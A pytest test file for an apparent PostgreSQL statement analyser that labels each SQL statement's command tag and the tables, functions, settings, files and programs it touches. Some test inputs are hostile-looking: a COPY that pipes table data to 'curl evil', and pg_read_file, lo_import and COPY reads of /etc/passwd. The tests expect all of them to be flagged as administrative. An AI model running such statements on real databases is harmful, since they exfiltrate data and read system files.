"""Every kind of statement is known by its command tag and by what it touches."""

import pytest

from protocols.postgres.sql.sql_words import facts, touched

STATEMENTS = [
    # Queries
    ("SELECT 1", "SELECT", []),
    ("VALUES (1), (2)", "SELECT", []),
    ("TABLE s.t", "SELECT", ["read s.t"]),
    ("SELECT * FROM db.s.t", "SELECT", ["read db.s.t"]),
    (
        "SELECT * FROM a, b JOIN c USING (x) WHERE EXISTS (SELECT 1 FROM d)",
        "SELECT",
        ["read a", "read b", "read c", "read d"],
    ),
    ("SELECT a FROM x UNION SELECT b FROM y EXCEPT SELECT c FROM z", "SELECT", ["read x", "read y", "read z"]),
    ("SELECT (SELECT max(i) FROM x) FROM y ORDER BY (SELECT 1 FROM z)", "SELECT", ["read x", "read y", "read z"]),
    ("SELECT * FROM t TABLESAMPLE bernoulli (10)", "SELECT", ["read t"]),
    ("SELECT * FROM t TABLESAMPLE mine.sample (10)", "SELECT", ["read t", "execute function mine.sample"]),
    ("SELECT count(*) FILTER (WHERE x IN (SELECT i FROM u)) FROM t", "SELECT", ["read t", "read u"]),
    (
        "SELECT * FROM LATERAL (SELECT * FROM a) x, ROWS FROM (generate_series(1,2), f(3)) y",
        "SELECT",
        ["read a", "execute function f"],
    ),
    ("SELECT * FROM t FOR UPDATE", "SELECT", ["read t", "write t"]),
    ("SELECT * FROM a, b x FOR SHARE OF x", "SELECT", ["read a", "read b", "write b"]),
    ("SELECT * FROM (SELECT * FROM a) s FOR KEY SHARE", "SELECT", ["read a", "write a"]),
    ("SELECT * FROM (a JOIN b ON true) j FOR UPDATE OF j", "SELECT", ["read a", "read b", "write a", "write b"]),
    ("SELECT * INTO made FROM t", "SELECT INTO", ["define made!", "read t"]),
    ("SELECT * INTO TEMP made FROM t", "SELECT INTO", ["define pg_temp.made!", "read t"]),
    ("INSERT INTO t VALUES (1)", "INSERT", ["write t"]),
    ("INSERT INTO t SELECT * FROM u", "INSERT", ["write t", "read u"]),
    ("INSERT INTO t VALUES (1) RETURNING id", "INSERT", ["write t", "read t"]),
    ("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "INSERT", ["write t"]),
    (
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = (SELECT 1 FROM u)",
        "INSERT",
        ["write t", "read t", "read u"],
    ),
    ("UPDATE t SET a = 1", "UPDATE", ["write t"]),
    ("UPDATE t SET a = a + 1", "UPDATE", ["write t", "read t"]),
    ("UPDATE t SET (a, b) = (SELECT 1, 2 FROM u) WHERE c = 3", "UPDATE", ["write t", "read t", "read u"]),
    ("UPDATE t SET a = u.a FROM u", "UPDATE", ["write t", "read t", "read u"]),
    ("DELETE FROM t", "DELETE", ["write t"]),
    ("DELETE FROM t USING u WHERE t.i = u.i", "DELETE", ["write t", "read t", "read u"]),
    (
        "MERGE INTO t USING s ON t.i = s.i WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (f(1))",
        "MERGE",
        ["write t", "read t", "read s", "execute function f"],
    ),
    (
        "WITH gone AS (DELETE FROM t RETURNING *) INSERT INTO u SELECT * FROM gone",
        "INSERT",
        ["write t", "read t", "write u"],
    ),
    # Expressions
    ("SELECT lower(a), pg_catalog.upper(b), count(*) OVER () FROM t", "SELECT", ["read t"]),
    ("SELECT mine(a), s.other(b) FROM t", "SELECT", ["read t", "execute function mine", "execute function s.other"]),
    (
        "SELECT a === b, a OPERATOR(s.+) b, - a FROM t",
        "SELECT",
        ["read t", "execute operator ===", "execute operator s.+"],
    ),
    (
        "SELECT a::mine, CAST(b AS s.other[]), c::int FROM t",
        "SELECT",
        ["read t", "execute type mine", "execute type s.other"],
    ),
    ("SELECT a FROM t ORDER BY a USING <<<", "SELECT", ["read t", "execute operator <<<"]),
    ("SELECT a <<< ANY (SELECT b FROM u) FROM t", "SELECT", ["read t", "read u", "execute operator <<<"]),
    (
        """SELECT current_user, COALESCE(a, b), GREATEST(a, b), a AT TIME ZONE 'UTC', EXTRACT(year FROM a),
        a SIMILAR TO 'x', (a, b) OVERLAPS (c, d), XMLSERIALIZE(CONTENT x AS text), JSON_VALUE(j, '$.a'),
        SUBSTRING(a FROM 1 FOR 2) FROM t""",
        "SELECT",
        ["read t"],
    ),
    ("SELECT * FROM JSON_TABLE(f(1), '$' COLUMNS (x int PATH '$.x')) j", "SELECT", ["execute function f"]),
    (
        "SELECT * FROM XMLTABLE('/a' PASSING (SELECT x FROM t) COLUMNS c mine) k",
        "SELECT",
        ["read t", "execute type mine"],
    ),
    ("SELECT nextval('s.q'), currval('\"Q\"'::regclass), setval('r', 1)", "SELECT", ["write s.q", "read Q", "write r"]),
    ("SELECT nextval(x) FROM t", "SELECT", ["write everything", "read t"]),
    ("SELECT pg_read_file('/etc/passwd')", "SELECT", ["administer file /etc/passwd"]),
    ("SELECT lo_import('/etc/passwd')", "SELECT", ["administer file /etc/passwd", "write everything"]),
    ("SELECT lo_export(12, '/tmp/x')", "SELECT", ["administer file /tmp/x", "read large object 12"]),
    ("SELECT query_to_xml('DELETE FROM t', true, true, '')", "SELECT", ["execute everything"]),
    (
        "SELECT table_to_xml('s.t', true, true, ''), database_to_xml(true, true, '')",
        "SELECT",
        ["read s.t", "read everything"],
    ),
    ("SELECT pg_terminate_backend(1), pg_stat_get_activity(null)", "SELECT", ["administer everything"]),
    ("SELECT pg_sleep(1)", "SELECT", ["execute function pg_catalog.pg_sleep"]),
    (
        "SELECT pg_notify('c', 'x'), pg_advisory_lock(1)",
        "SELECT",
        ["write channel c", "execute function pg_catalog.pg_advisory_lock"],
    ),
    ("SELECT dblink('x', 'y')", "SELECT", ["execute function dblink", "administer everything"]),
    (
        "SELECT current_setting('Work_Mem'), set_config('A.b', '1', true)",
        "SELECT",
        ["read setting work_mem", "write setting a.b"],
    ),
    ("SELECT set_config(x, '1', true) FROM t", "SELECT", ["administer everything", "read t"]),
    ("SELECT set_config('role', 'boss', true)", "SELECT", ["administer role boss"]),
    # What wraps a query
    ("EXPLAIN DELETE FROM t", "EXPLAIN", ["write t"]),
    ("DELETE FROM t WHERE CURRENT OF c", "DELETE", ["write t", "read t"]),
    (
        "SELECT JSON_ARRAYAGG(a ORDER BY g(b)), JSON_QUERY(a, '$' PASSING h(1) AS q) FROM t",
        "SELECT",
        ["read t", "execute function g", "execute function h"],
    ),
    (
        "SELECT rank() OVER (PARTITION BY f(b)) FROM t GROUP BY ROLLUP (g(a))",
        "SELECT",
        ["read t", "execute function f", "execute function g"],
    ),
    ("SELECT * FROM a JOIN LATERAL (SELECT * FROM b FOR UPDATE) s ON true", "SELECT", ["read a", "read b", "write b"]),
    ("EXPLAIN (ANALYZE, FORMAT json) SELECT f() FROM t", "EXPLAIN", ["read t", "execute function f"]),
    ("PREPARE p (int) AS UPDATE t SET a = $1", "PREPARE", ["write t"]),
    ("EXECUTE p (f(1))", "EXECUTE", ["execute function f"]),
    ("DECLARE c CURSOR FOR SELECT * FROM t", "DECLARE CURSOR", ["read t"]),
    ("FETCH 5 FROM c", "FETCH", []),
    ("MOVE ALL IN c", "MOVE", []),
    ("CLOSE c", "CLOSE CURSOR", []),
    ("CLOSE ALL", "CLOSE CURSOR ALL", []),
    ("DEALLOCATE ALL", "DEALLOCATE ALL", []),
    ("CREATE TABLE made AS SELECT * FROM t", "CREATE TABLE AS", ["define made!", "read t"]),
    ("CREATE TABLE made AS EXECUTE p", "CREATE TABLE AS", ["define made!"]),
    (
        "CREATE MATERIALIZED VIEW s.m AS SELECT f(a) FROM t",
        "CREATE MATERIALIZED VIEW",
        ["define s.m!", "read t", "execute function f"],
    ),
    ("CREATE VIEW v AS SELECT * FROM t", "CREATE VIEW", ["define v!", "read t"]),
    ("REFRESH MATERIALIZED VIEW m", "REFRESH MATERIALIZED VIEW", ["write m"]),
    ("COPY t FROM STDIN", "COPY", ["write t"]),
    ("COPY t (a) TO STDOUT WITH (FORMAT binary)", "COPY", ["read t"]),
    ("COPY (SELECT * FROM t) TO STDOUT", "COPY", ["read t"]),
    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", "COPY", ["write t", "read t"]),
    ("COPY t FROM '/etc/passwd'", "COPY", ["write t", "administer file /etc/passwd"]),
    ("COPY t TO PROGRAM 'curl evil'", "COPY", ["read t", "administer program curl evil"]),
    ("COPY t FROM STDIN WHERE f(a)", "COPY", ["write t", "execute function f"]),
    ("DO $$ BEGIN END $$", "DO", ["execute everything", "execute language plpgsql"]),
    ("DO LANGUAGE plpython3u 'x'", "DO", ["execute everything", "execute language plpython3u"]),
    ("CALL s.p(1, (SELECT i FROM t))", "CALL", ["execute function s.p", "read t"]),
    # The session
    ("BEGIN", "BEGIN", []),
    ("START TRANSACTION READ ONLY", "START TRANSACTION", []),
    ("END", "COMMIT", []),
    ("ABORT AND CHAIN", "ROLLBACK", []),
    ("SAVEPOINT a", "SAVEPOINT", []),
    ("RELEASE a", "RELEASE", []),
    ("ROLLBACK TO a", "ROLLBACK", []),
    ("PREPARE TRANSACTION 'x'", "PREPARE TRANSACTION", ["administer everything"]),
    ("COMMIT PREPARED 'x'", "COMMIT PREPARED", ["administer everything"]),
    ("ROLLBACK PREPARED 'x'", "ROLLBACK PREPARED", ["administer everything"]),
    ("SET search_path TO a", "SET", ["write setting search_path"]),
    ("SET LOCAL \"Work_Mem\" = '1MB'", "SET", ["write setting work_mem"]),
    ("SET TIME ZONE 'UTC'", "SET", ["write setting timezone"]),
    ("SET NAMES 'LATIN1'", "SET", ["write setting client_encoding"]),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "SET", []),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", "SET", ["write setting default_transaction_read_only"]),
    ("SET ROLE boss", "SET", ["administer role boss"]),
    ("SET ROLE NONE", "SET", ["write setting role"]),
    ("SET SESSION AUTHORIZATION boss", "SET", ["administer role boss"]),
    ("RESET SESSION AUTHORIZATION", "RESET", ["write setting session_authorization"]),
    ("RESET ALL", "RESET", ["write setting *"]),
    ("SHOW ALL", "SHOW", ["read setting *"]),
    ("SHOW TimeZone", "SHOW", ["read setting timezone"]),
    ("SET CONSTRAINTS ALL IMMEDIATE", "SET CONSTRAINTS", []),
    ("DISCARD ALL", "DISCARD ALL", []),
    ("LISTEN c", "LISTEN", ["read channel c"]),
    ("UNLISTEN *", "UNLISTEN", []),
    ("NOTIFY c, 'x'", "NOTIFY", ["write channel c"]),
    ("LOCK TABLE t IN ACCESS SHARE MODE", "LOCK TABLE", ["read t"]),
    ("LOCK t, s.u", "LOCK TABLE", ["write t", "write s.u"]),
]


@pytest.mark.parametrize(("text", "kind", "expected"), STATEMENTS, ids=[row[0][:60] for row in STATEMENTS])
def test_a_statement_is_known_by_its_tag_and_by_what_it_touches(text, kind, expected):
    assert facts(text).kind == kind
    assert touched(text) == set(expected)


@pytest.mark.parametrize("text", [row[0] for row in STATEMENTS if row[1] in {"SELECT", "INSERT", "UPDATE", "DELETE"}])
def test_explaining_a_query_needs_what_the_query_needs(text):
    assert touched(f"EXPLAIN {text}") == touched(text)


@pytest.mark.parametrize(
    "text",
    [
        "SELECT ID FROM Orders WHERE X=1",
        "select id from orders where x=1",
        "/* a */ SELECT id -- b\n FROM/**/orders WHERE x = 1;",
        'select "id" from "orders" where "x" = 1',
        'select U&"\\0069d" from U&"o\\0072ders" where U&"!0078" UESCAPE \'!\' = 1',
        "\n\tSELECT\nid\nFROM\norders\nWHERE\nx=1\n;\n",
    ],
)
def test_spelling_does_not_change_what_a_statement_touches(text):
    assert facts(text).touches == facts("select id from orders where x = 1").touches
    assert facts(text).assumed == facts("select id from orders where x = 1").assumed


def test_names_keep_their_case_when_quoted_and_are_cut_where_the_server_cuts_them():
    assert touched('SELECT * FROM "S"."T"') == {"read S.T"}
    assert touched("SELECT * FROM " + "a" * 80) == {"read " + "a" * 63}


def test_what_was_taken_for_builtin_is_told():
    names = {(ref.kind.value, ref.name, ref.arity) for ref in facts("SELECT lower(t.a) = 'x'::text FROM t").assumed}
    assert names == {("function", "lower", 1), ("operator", "=", 2), ("type", "text", -1), ("attribute", "a", 1)}
    assert facts("SELECT pg_catalog.lower('x') OPERATOR(pg_catalog.=) 'x'").assumed == ()


def test_attribute_notation_is_told_because_it_may_call_a_function():
    names = {ref.name for ref in facts("SELECT t.f, (t).g, ((t).h).i FROM t").assumed}
    assert names == {"f", "g", "h", "i"}


def test_row_returning_and_copy_direction_are_told():
    assert facts("DELETE FROM t RETURNING 1").returns_rows
    assert not facts("DELETE FROM t").returns_rows
    assert facts("COPY t FROM STDIN").copy == "in"
    assert facts("COPY t TO STDOUT").copy == "out"
    assert facts("COPY t TO '/x'").copy == ""
